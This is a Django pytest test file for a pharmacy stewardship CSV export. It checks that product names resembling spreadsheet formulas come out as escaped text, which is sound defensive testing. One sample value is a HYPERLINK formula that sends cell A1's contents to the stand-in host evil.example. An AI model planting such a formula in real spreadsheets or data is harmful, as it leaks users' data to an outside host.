"""The stewardship CSV writes through the one safe writer (ivig/csv_export.py): a product named
like a formula reaches the spreadsheet as text (issue 22)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from formulary.models import Product
from ivig.csv_export import FORMULA_STARTS

from .test_pages import course  # noqa: F401 (a fixture, asked for by name)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Privigen")'


@pytest.mark.parametrize("name", [EVIL, "+1+1", "-1+1", "@SUM(A1)", "\tPrivigen", "\rPrivigen"])
def test_a_product_named_like_a_formula_is_text_in_the_csv(request, pharmacist, client_for, name):
    order = request.getfixturevalue("course")
    Product.objects.filter(pk=order.product_id).update(brand_name=name)
    today = timezone.localdate()
    response = client_for(pharmacist).get(
        reverse("reports:stewardship-csv"),
        {"date_from": (today - timedelta(days=40)).isoformat(), "date_to": today.isoformat()},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    products = [row[2] for row in rows[1:]]
    assert products and all(product == "'" + name for product in products), rows
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
